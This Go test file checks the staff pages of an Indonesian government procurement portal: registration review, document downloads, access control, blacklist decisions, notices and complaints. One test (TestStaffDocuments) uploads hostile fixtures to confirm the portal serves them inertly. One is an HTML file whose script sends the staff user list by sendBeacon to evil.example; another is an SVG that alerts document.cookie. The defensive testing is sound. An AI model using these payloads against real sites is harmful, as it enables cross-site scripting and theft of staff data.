package portal_test

import (
	"context"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/segel-lpse/segel/api"
	"github.com/segel-lpse/segel/client"
)

// applicant registers provider i through the API with the given scans
// (registration(i)'s if nil) and returns its account id.
func applicant(t testing.TB, d *deployment, i int, scans map[string][]byte) string {
	t.Helper()
	fields, files := registration(i)
	if scans != nil {
		for k, v := range scans {
			files[k] = v
		}
	}
	docs := map[api.DocumentKind][]byte{}
	for k, v := range files {
		docs[api.DocumentKind(k)] = v
	}
	a, err := client.New(d.url).Register(context.Background(), api.Registration{
		Role: api.RoleProvider, Email: fields["email"], Password: fields["password"], Name: fields["name"], NIK: fields["nik"],
		Provider:  &api.Provider{Kind: api.Company, NPWP: fields["npwp"], Licence: fields["licence"]},
		Documents: docs,
	})
	if err != nil {
		t.Fatal(err)
	}
	return a.ID
}

func login(t testing.TB, d *deployment, email string) *client.Client {
	t.Helper()
	c, err := client.New(d.url).Login(context.Background(), email, demoPassword)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

const (
	verifierEmail = "verifier1@pemkot.demo.go.id"
	adminEmail    = "admin@lpse.demo.go.id"
	paEmail       = "pa-kpa10@pemkot.demo.go.id"
	providerEmail = "direktur@cv-contoh-0.demo.co.id"
	pokjaEmail    = "pokja11@pemkot.demo.go.id"
)

// wantOK checks that a form's POST redirected with ?ok=staff.<ok> and
// that the page it leads to says so in both languages.
func wantOK(t *testing.T, b *browser, what string, p page, ok, id, en string) {
	t.Helper()
	loc, _, _ := strings.Cut(p.header.Get("Location"), "#") // browsers send no fragment
	if p.status != 303 || !strings.Contains(loc, "ok=staff."+ok) {
		t.Fatalf("%s: %d to %q, want 303 with ok=staff.%s\n%s", what, p.status, loc, ok, text(p.body))
	}
	got := b.get(loc)
	checkPage(t, what+": "+loc, got, 200, "id")
	if !strings.Contains(text(got.body), id) {
		t.Errorf("%s: the page does not say %q:\n%s", what, id, text(got.body))
	}
	u, _ := url.Parse(loc)
	q := u.Query()
	q.Set("lang", "en")
	u.RawQuery = q.Encode()
	got = b.get(u.String())
	checkPage(t, what+" in English", got, 200, "en")
	if !strings.Contains(text(got.body), en) {
		t.Errorf("%s in English: the page does not say %q:\n%s", what, en, text(got.body))
	}
	q.Set("lang", "id")
	u.RawQuery = q.Encode()
	b.get(u.String())
}

// TestStaffRegistrations runs the registration queue through the staff's
// pages: a verifier finds two applicants in the queue, opens one's
// documents, verifies them and approves it, rejects the other with a
// reason (a rejection without one is refused and nothing changes), and
// each provider's account says where it stands; the user list finds
// them; an active account is deactivated and reactivated.
func TestStaffRegistrations(t *testing.T) {
	ctx := context.Background()
	d := newDeployment(t)
	d.setup(0, time.Hour)
	good, bad := applicant(t, d, 31, nil), applicant(t, d, 32, nil)
	v := d.browser()
	v.login(verifierEmail, demoPassword)

	for _, lang := range []string{"id", "en"} {
		p := v.get("/staff?lang=" + lang)
		checkPage(t, "the queue ("+lang+")", p, 200, lang)
		for _, id := range []string{good, bad} {
			if !strings.Contains(p.body, `href="/staff/users/`+id+`"`) {
				t.Errorf("the queue (%s) does not list %s:\n%s", lang, id, text(p.body))
			}
		}
		if s := text(p.body); lang == "id" && !strings.Contains(s, "0 dari 4 terverifikasi") || lang == "en" && !strings.Contains(s, "0 of 4 verified") {
			t.Errorf("the queue (%s) does not count the documents verified:\n%s", lang, s)
		}
		if !strings.Contains(p.body, `<a href="/staff" aria-current="page">`) {
			t.Errorf("the queue (%s): the staff's menu does not mark it", lang)
		}
	}
	v.get("/?lang=id")

	// The applicant's page, its documents.
	p := v.get("/staff/users/" + good)
	checkPage(t, "the applicant", p, 200, "id")
	if s := text(p.body); !strings.Contains(s, "CV Portal 31") || !strings.Contains(s, "menunggu verifikasi") || !strings.Contains(s, "Setujui setelah semua dokumen terverifikasi") {
		t.Errorf("the applicant's page: %s", s)
	}
	if !regexp.MustCompile(`id="approve" disabled`).MatchString(p.body) {
		t.Error("approval is offered before every document is verified")
	}
	_, files := registration(31)
	for kind, want := range files {
		doc := v.get("/staff/users/" + good + "/documents/" + kind)
		if doc.status != 200 || doc.body != string(want) {
			t.Errorf("the %s scan as the verifier opens it: %d %q", kind, doc.status, doc.body)
		}
		if ct, cd := doc.header.Get("Content-Type"), doc.header.Get("Content-Disposition"); ct != "application/pdf" || !strings.HasPrefix(cd, "attachment;") {
			t.Errorf("the %s scan (a PDF) is served as %q, %q: want a download", kind, ct, cd)
		}
		p = v.post("/staff/users/"+good+"/documents/"+kind+"/verify", url.Values{}, p)
		wantOK(t, v, "verifying "+kind, p, "verified", "Dokumen ditandai terverifikasi", "The document is marked verified")
		p = v.get("/staff/users/" + good)
	}
	if strings.Contains(p.body, `id="approve" disabled`) || !strings.Contains(text(p.body), "Semua dokumen terverifikasi") {
		t.Errorf("every document verified, approval is not offered: %s", text(p.body))
	}
	p = v.post("/staff/users/"+good+"/approve", url.Values{"form": {"approve"}}, p)
	wantOK(t, v, "approving", p, "approved", "Pendaftaran disetujui: akun aktif", "The registration is approved: the account is active")

	// A rejection needs a reason: refused, what was typed kept, nothing
	// done; then rejected with one.
	p = v.get("/staff/users/" + bad)
	refusedP := v.post("/staff/users/"+bad+"/reject", url.Values{"form": {"reject"}, "reason": {"  "}}, p)
	checkPage(t, "rejecting without a reason", refusedP, 400, "id")
	if s := text(refusedP.body); !strings.Contains(s, "Ada isian yang tidak dapat diterima") || !strings.Contains(s, "reason") {
		t.Errorf("rejecting without a reason: %s", s)
	}
	if u, _ := login(t, d, verifierEmail).User(ctx, bad); u.Status != api.StatusPending {
		t.Errorf("a refused rejection changed the account: %s", u.Status)
	}
	p = v.post("/staff/users/"+bad+"/reject", url.Values{"form": {"reject"}, "reason": {"Dokumen NPWP tidak terbaca."}}, p)
	wantOK(t, v, "rejecting", p, "rejected", "Pendaftaran ditolak", "The registration is rejected")
	if s := text(v.get("/staff/users/" + bad).body); !strings.Contains(s, "Dokumen NPWP tidak terbaca.") || !strings.Contains(s, "ditolak") {
		t.Errorf("the rejected applicant's page: %s", s)
	}

	// Each provider sees where it stands.
	fields, _ := registration(31)
	pb := d.browser()
	pb.login(fields["email"], fields["password"])
	if s := text(pb.get("/account").body); !strings.Contains(s, "aktif") || !strings.Contains(s, "Disetujui") {
		t.Errorf("the approved provider's account: %s", s)
	}
	fields, _ = registration(32)
	pb = d.browser()
	form := pb.get("/login")
	p = pb.post("/login", url.Values{"email": {fields["email"]}, "password": {fields["password"]}}, form)
	if p.status != 403 || !strings.Contains(text(p.body), "register again") && !strings.Contains(text(p.body), "ditolak") {
		t.Errorf("the rejected provider signing in: %d %s", p.status, text(p.body))
	}

	// The queue is empty; the user list finds them by name and status.
	if s := text(v.get("/staff").body); !strings.Contains(s, "Tidak ada pendaftar yang menunggu verifikasi") {
		t.Errorf("the queue after the decisions: %s", s)
	}
	for _, c := range []struct {
		query      string
		want, not  []string
		wantStatus int
	}{
		{"q=CV+Portal&role=provider", []string{good, bad}, nil, 200},
		{"q=cv+portal&status=rejected", []string{bad}, []string{good}, 200},
		{"status=active&role=provider", []string{good}, []string{bad}, 200},
		{"q=" + url.QueryEscape(fields["npwp"]), []string{bad}, []string{good}, 200},
		{"status=waiting", nil, []string{good, bad}, 400},
	} {
		for _, lang := range []string{"id", "en"} {
			p := v.get("/staff/users?" + c.query + "&lang=" + lang)
			checkPage(t, "the user list ?"+c.query, p, c.wantStatus, lang)
			for _, id := range c.want {
				if !strings.Contains(p.body, "/staff/users/"+id) {
					t.Errorf("the user list ?%s does not list %s", c.query, id)
				}
			}
			for _, id := range c.not {
				if strings.Contains(p.body, "/staff/users/"+id) {
					t.Errorf("the user list ?%s lists %s", c.query, id)
				}
			}
		}
	}
	v.get("/?lang=id")

	// Deactivated for a violation until a day, then reactivated; the
	// provider's sessions end meanwhile.
	p = v.get("/staff/users/" + good)
	p = v.post("/staff/users/"+good+"/deactivate", url.Values{"form": {"deactivate"}, "reason": {"Pemalsuan dokumen."}, "until": {"kemarin"}}, p)
	checkPage(t, "deactivating until a day that is no date", p, 400, "id")
	if !strings.Contains(text(p.body), "Tanggal kemarin tidak dapat dibaca") || !strings.Contains(p.body, "Pemalsuan dokumen.</textarea>") {
		t.Errorf("deactivating until a day that is no date: %s", text(p.body))
	}
	until := time.Now().AddDate(0, 1, 0).Format(time.DateOnly)
	p = v.post("/staff/users/"+good+"/deactivate", url.Values{"form": {"deactivate"}, "reason": {"Pemalsuan dokumen."}, "until": {until}}, p)
	wantOK(t, v, "deactivating", p, "deactivated", "Akun dinonaktifkan", "The account is deactivated")
	if s := text(pb.get("/account").body); strings.Contains(s, "CV Portal 31") {
		t.Errorf("a deactivated provider's session still shows its account")
	}
	p = v.get("/staff/users/" + good)
	if !strings.Contains(text(p.body), "Pemalsuan dokumen.") || !strings.Contains(p.body, `action="/staff/users/`+good+`/reactivate"`) {
		t.Errorf("the deactivated account's page: %s", text(p.body))
	}
	p = v.post("/staff/users/"+good+"/reactivate", url.Values{"form": {"reactivate"}, "reason": {"Sanksi dicabut setelah banding."}}, p)
	wantOK(t, v, "reactivating", p, "reactivated", "Akun diaktifkan kembali", "The account is reactivated")

	// A verifier does not review LPSE staff: the API's refusal, shown.
	staff, err := login(t, d, adminEmail).Users(ctx, client.UserQuery{Role: api.RoleVerifier})
	if err != nil || len(staff) == 0 {
		t.Fatalf("the verifiers: %v %v", staff, err)
	}
	p = v.get("/staff/users/" + staff[0].ID)
	checkPage(t, "a verifier's account, as a verifier", p, 200, "id")
	if strings.Contains(p.body, "/deactivate") || strings.Contains(p.body, "/documents/") {
		t.Errorf("a verifier is offered to deactivate a verifier, or to open its documents")
	}
	p = v.post("/staff/users/"+staff[0].ID+"/deactivate", url.Values{"form": {"deactivate"}, "reason": {"uji"}}, p)
	checkPage(t, "a verifier deactivating a verifier", p, 403, "id")
}

// TestStaffDocuments serves an applicant's uploads as the staff open
// them: an image is shown, a hostile HTML or SVG file is a download of
// bytes, and no answer can run script in the portal's origin.
func TestStaffDocuments(t *testing.T) {
	d := newDeployment(t)
	d.setup(0, time.Hour)
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 32)...)
	html := []byte(`<!doctype html><html><body><script>fetch("/staff/users").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>`)
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`)
	id := applicant(t, d, 33, map[string][]byte{"ktp": png, "npwp": html, "akta-pendirian": svg})
	v := d.browser()
	v.login(verifierEmail, demoPassword)
	for _, c := range []struct {
		kind, ctype, disposition string
	}{
		{"ktp", "image/png", "inline"},
		{"npwp", "application/octet-stream", "attachment"},
		{"akta-pendirian", "application/octet-stream", "attachment"},
		{"izin-usaha", "application/pdf", "attachment"},
	} {
		p := v.get("/staff/users/" + id + "/documents/" + c.kind)
		if p.status != 200 {
			t.Errorf("%s: %d", c.kind, p.status)
			continue
		}
		h := p.header
		if h.Get("Content-Type") != c.ctype || !strings.HasPrefix(h.Get("Content-Disposition"), c.disposition+`; filename="`+id+"-"+c.kind) {
			t.Errorf("%s: served as %q, %q; want %s, %s", c.kind, h.Get("Content-Type"), h.Get("Content-Disposition"), c.ctype, c.disposition)
		}
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
			t.Errorf("%s: Content-Security-Policy %q, want a sandbox allowing no script", c.kind, csp)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: X-Content-Type-Options %q, Cache-Control %q", c.kind, h.Get("X-Content-Type-Options"), h.Get("Cache-Control"))
		}
	}
	// A document the account does not have, an account that does not
	// exist: the API's refusal, as a page.
	checkPage(t, "a document the account lacks", v.get("/staff/users/"+id+"/documents/surat-tugas"), 404, "id")
	p := v.get("/staff/users/u-nobody/documents/ktp")
	if p.status < 400 || strings.Contains(p.body, "PNG") {
		t.Errorf("an unknown account's document: %d", p.status)
	}
}

// TestStaffAccess: every staff page sends the anonymous to sign in and
// refuses providers and officials with a 403 page that shows no data;
// their forms, with a valid token, change nothing.
func TestStaffAccess(t *testing.T) {
	ctx := context.Background()
	d := newDeployment(t)
	d.setup(1, time.Hour)
	id := applicant(t, d, 34, nil)
	pa := login(t, d, paEmail)
	provider := login(t, d, providerEmail)
	req, err := pa.RequestBlacklist(ctx, provider.UserID(), "Wanprestasi kontrak 2025.", time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	c, err := provider.FileComplaint(ctx, "Keluhan 7781", "Isi keluhan rahasia 7781.")
	if err != nil {
		t.Fatal(err)
	}
	n, err := login(t, d, adminEmail).PublishNotice(ctx, api.NoticeGeneral, "Pengumuman 7782", "Isi 7782.")
	if err != nil {
		t.Fatal(err)
	}
	gets := []string{"/staff", "/staff/users", "/staff/users/" + id, "/staff/users/" + id + "/documents/ktp", "/staff/blacklist",
		"/staff/notices", "/staff/complaints", "/staff/complaints/" + c.ID}
	posts := []string{"/staff/users/" + id + "/documents/ktp/verify", "/staff/users/" + id + "/approve", "/staff/users/" + id + "/reject",
		"/staff/users/" + id + "/deactivate", "/staff/users/" + id + "/reactivate", "/staff/blacklist/" + req.ID + "/approve",
		"/staff/blacklist/" + req.ID + "/reject", "/staff/notices", "/staff/notices/" + n.ID + "/withdraw", "/staff/complaints/" + c.ID}
	anon := d.browser()
	for _, path := range gets {
		p := anon.get(path)
		if p.status != 303 || p.header.Get("Location") != "/login?next="+url.QueryEscape(path) {
			t.Errorf("anonymous GET %s: %d to %q, want 303 to sign in", path, p.status, p.header.Get("Location"))
		}
	}
	for _, path := range posts {
		checkPage(t, "anonymous POST "+path, anon.post(path, url.Values{"reason": {"x"}}, anon.get("/login")), 401, "id")
	}
	secrets := []string{"CV Portal 34", "Wanprestasi", "Keluhan 7781", "keluhan rahasia 7781", "%PDF"}
	for _, who := range []string{providerEmail, pokjaEmail, paEmail} {
		b := d.browser()
		b.login(who, demoPassword)
		home := b.get("/")
		if strings.Contains(home.body, `href="/staff"`) {
			t.Errorf("%s: the menu links to the staff's pages", who)
		}
		for _, path := range gets {
			p := b.get(path)
			checkPage(t, who+" GET "+path, p, 403, "id")
			for _, s := range secrets {
				if strings.Contains(p.body, s) {
					t.Errorf("%s GET %s: the refusal shows %q", who, path, s)
				}
			}
		}
		for _, path := range posts {
			checkPage(t, who+" POST "+path, b.post(path, url.Values{"reason": {"x"}, "title": {"x"}, "text": {"x"}, "kind": {"general"},
				"status": {"in-progress"}, "response": {"x"}}, home), 403, "id")
		}
	}
	// Nothing was done.
	admin := login(t, d, adminEmail)
	if u, err := admin.User(ctx, id); err != nil || u.Status != api.StatusPending || u.Documents[0].VerifiedBy != "" {
		t.Errorf("the applicant after the refused forms: %+v %v", u, err)
	}
	if rs, _ := admin.BlacklistRequests(ctx); len(rs) != 1 || rs[0].Decision != nil {
		t.Errorf("the blacklist request after the refused forms: %+v", rs)
	}
	if ns, _ := admin.Notices(ctx); len(ns) != 1 || ns[0].Withdrawn != nil {
		t.Errorf("notices after the refused forms: %+v", ns)
	}
	if cs, _ := admin.Complaints(ctx); len(cs) != 1 || cs[0].Status != api.ComplaintOpen {
		t.Errorf("the complaint after the refused forms: %+v", cs)
	}
	// An admin does not review a provider: the page says who does and
	// offers no document, verification or decision.
	ab := d.browser()
	ab.login(adminEmail, demoPassword)
	p := ab.get("/staff/users/" + id)
	if s := text(p.body); !strings.Contains(s, "ditangani oleh verifikator LPSE") || strings.Contains(p.body, "/documents/ktp") ||
		strings.Contains(p.body, "/approve") || strings.Contains(p.body, "/reject") {
		t.Errorf("an admin's view of a pending provider: %s", s)
	}
	// Staff, verifier and admin alike, see the menu and the pages.
	for _, who := range []string{verifierEmail, adminEmail} {
		v := d.browser()
		v.login(who, demoPassword)
		if p := v.get("/"); !strings.Contains(p.body, `href="/staff"`) {
			t.Errorf("%s: the menu has no link to the staff's pages", who)
		}
		for _, path := range gets {
			p := v.get(path)
			if strings.Contains(path, "/documents/") && who == verifierEmail {
				if p.status != 200 || p.body != "%PDF-1.4 pindaian ktp CV Portal 34" {
					t.Errorf("%s GET %s: %d %q", who, path, p.status, p.body)
				}
				continue
			}
			if strings.Contains(path, "/documents/") {
				// A provider's documents are its reviewer's, a verifier's
				// (registry.md §2): the API's refusal, in its words.
				checkPage(t, who+" GET "+path, p, 403, "id")
				if !strings.Contains(text(p.body), "it takes a [verifier]") || strings.Contains(p.body, "%PDF") {
					t.Errorf("%s GET %s: %s", who, path, text(p.body))
				}
				continue
			}
			checkPage(t, who+" GET "+path, p, 200, "id")
		}
	}
}

// TestStaffDesk: blacklist requests decided, a notice published, a
// complaint answered and closed, through the staff's pages, each page in
// both languages.
func TestStaffDesk(t *testing.T) {
	ctx := context.Background()
	d := newDeployment(t)
	d.setup(2, time.Hour)
	pa := login(t, d, paEmail)
	p0, p1 := login(t, d, providerEmail), login(t, d, "direktur@cv-contoh-1.demo.co.id")
	r0, err := pa.RequestBlacklist(ctx, p0.UserID(), "Wanprestasi kontrak 2025.", time.Now().AddDate(1, 0, 0))
	if err != nil {
		t.Fatal(err)
	}
	r1, err := pa.RequestBlacklist(ctx, p1.UserID(), "Terlambat menyerahkan jaminan.", time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	v := d.browser()
	v.login(verifierEmail, demoPassword)
	for _, lang := range []string{"en", "id"} {
		for _, path := range []string{"/staff/blacklist", "/staff/notices", "/staff/complaints"} {
			checkPage(t, path+" ("+lang+")", v.get(path+"?lang="+lang), 200, lang)
		}
	}
	p := v.get("/staff/blacklist")
	if s := text(p.body); !strings.Contains(s, "Wanprestasi kontrak 2025.") || !strings.Contains(s, "CV Contoh 0") || !strings.Contains(s, "pa-kpa 10") {
		t.Errorf("the blacklist requests: %s", s)
	}
	bad := v.post("/staff/blacklist/"+r1.ID+"/reject", url.Values{"reason": {""}}, p)
	checkPage(t, "rejecting a request without a reason", bad, 400, "id")
	p = v.post("/staff/blacklist/"+r1.ID+"/reject", url.Values{"reason": {"Tidak cukup bukti."}}, p)
	wantOK(t, v, "rejecting a request", p, "blacklist-rejected", "Permintaan ditolak", "The request is rejected")
	p = v.post("/staff/blacklist/"+r0.ID+"/approve", url.Values{}, v.get("/staff/blacklist"))
	wantOK(t, v, "approving a request", p, "blacklist-approved", "penyedia masuk daftar hitam", "the provider is blacklisted")
	if u, _ := login(t, d, adminEmail).User(ctx, p0.UserID()); u.Status != api.StatusDeactivated || u.Sanction == nil || !u.Sanction.Blacklist {
		t.Errorf("the provider blacklisted: %+v", u)
	}
	if s := text(v.get("/staff/blacklist").body); !strings.Contains(s, "Tidak ada permintaan yang menunggu keputusan") || !strings.Contains(s, "Tidak cukup bukti.") {
		t.Errorf("the requests decided: %s", s)
	}
	if s := text(v.get("/staff/users/" + p0.UserID()).body); !strings.Contains(s, r0.ID) || !strings.Contains(s, "Wanprestasi kontrak 2025. — disetujui") {
		t.Errorf("the blacklisted provider's page: %s", s)
	}

	// A notice: refused without a title (what was typed kept), then
	// published, and on the public page.
	p = v.get("/staff/notices")
	bad = v.post("/staff/notices", url.Values{"kind": {"maintenance"}, "title": {""}, "text": {"Layanan berhenti sebentar."}}, p)
	checkPage(t, "a notice without a title", bad, 400, "id")
	if !strings.Contains(bad.body, "Layanan berhenti sebentar.</textarea>") {
		t.Errorf("a refused notice loses its text: %s", text(bad.body))
	}
	p = v.post("/staff/notices", url.Values{"kind": {"maintenance"}, "title": {"Pemeliharaan Sabtu 22.00"}, "text": {"Layanan berhenti\r\nsebentar."}}, p)
	wantOK(t, v, "publishing a notice", p, "notice-published", "Pengumuman diterbitkan", "The notice is published")
	if s := text(d.browser().get("/notices").body); !strings.Contains(s, "Pemeliharaan Sabtu 22.00") || !strings.Contains(s, "Layanan berhenti sebentar.") {
		t.Errorf("the public notices: %s", s)
	}

	// Withdrawn: a reason is needed; then the public pages leave it out,
	// the staff's page says when and why.
	p = v.get("/staff/notices")
	ns, err := login(t, d, adminEmail).Notices(ctx)
	if err != nil || len(ns) != 1 {
		t.Fatalf("the notices: %+v %v", ns, err)
	}
	bad = v.post("/staff/notices/"+ns[0].ID+"/withdraw", url.Values{"reason": {" "}}, p)
	checkPage(t, "withdrawing without a reason", bad, 400, "id")
	p = v.post("/staff/notices/"+ns[0].ID+"/withdraw", url.Values{"reason": {"Pemeliharaan dibatalkan."}}, p)
	wantOK(t, v, "withdrawing a notice", p, "notice-withdrawn", "Pengumuman ditarik", "The notice is withdrawn")
	if s := text(v.get("/staff/notices").body); !strings.Contains(s, "Ditarik") || !strings.Contains(s, "Pemeliharaan dibatalkan.") {
		t.Errorf("the staff's notices after the withdrawal: %s", s)
	}
	for _, path := range []string{"/notices", "/"} {
		if s := text(d.browser().get(path).body); strings.Contains(s, "Pemeliharaan Sabtu 22.00") {
			t.Errorf("%s shows the withdrawn notice: %s", path, s)
		}
	}
	p = v.post("/staff/notices/"+ns[0].ID+"/withdraw", url.Values{"reason": {"Lagi."}}, v.get("/staff/notices"))
	checkPage(t, "withdrawing twice", p, 409, "id")

	// A complaint: answered (in progress), then closed as resolved.
	c, err := p1.FileComplaint(ctx, "Unggahan gagal", "Unggahan berhenti di 80% sejak pukul 09.00.")
	if err != nil {
		t.Fatal(err)
	}
	p = v.get("/staff/complaints")
	if !strings.Contains(p.body, `href="/staff/complaints/`+c.ID+`"`) || !strings.Contains(text(p.body), "terbuka") {
		t.Errorf("the complaint queue: %s", text(p.body))
	}
	for _, lang := range []string{"en", "id"} {
		p = v.get("/staff/complaints/" + c.ID + "?lang=" + lang)
		checkPage(t, "the complaint ("+lang+")", p, 200, lang)
	}
	if s := text(p.body); !strings.Contains(s, "Unggahan berhenti di 80% sejak pukul 09.00.") || !strings.Contains(s, "CV Contoh 1") {
		t.Errorf("the complaint: %s", s)
	}
	p = v.post("/staff/complaints/"+c.ID, url.Values{"status": {"in-progress"}, "response": {"Sedang kami periksa."}}, p)
	wantOK(t, v, "answering", p, "complaint-in-progress", "pengaduan sedang ditangani", "the complaint is in progress")
	p = v.get("/staff/complaints/" + c.ID)
	if !strings.Contains(p.body, `id="status-resolved"`) || !strings.Contains(text(p.body), "Sedang kami periksa.") {
		t.Errorf("the complaint in progress: %s", text(p.body))
	}
	bad = v.post("/staff/complaints/"+c.ID, url.Values{"status": {"in-progress"}, "response": {"Lagi."}}, p)
	checkPage(t, "a complaint moved where it cannot go", bad, 409, "id")
	p = v.post("/staff/complaints/"+c.ID, url.Values{"status": {"resolved"}, "response": {"Sudah diperbaiki."}}, p)
	wantOK(t, v, "closing", p, "complaint-resolved", "Pengaduan ditutup sebagai selesai", "The complaint is closed as resolved")
	if cs, _ := p1.Complaints(ctx); len(cs) != 1 || cs[0].Status != api.ComplaintResolved || len(cs[0].Updates) != 2 {
		t.Errorf("the complainant's complaint: %+v", cs)
	}
	if s := text(v.get("/staff/complaints").body); !strings.Contains(s, "Tidak ada pengaduan yang perlu ditangani") || !strings.Contains(s, "Unggahan gagal") {
		t.Errorf("the complaint queue after closing: %s", s)
	}
	checkPage(t, "an unknown complaint", v.get("/staff/complaints/C-nobody"), 404, "id")
}
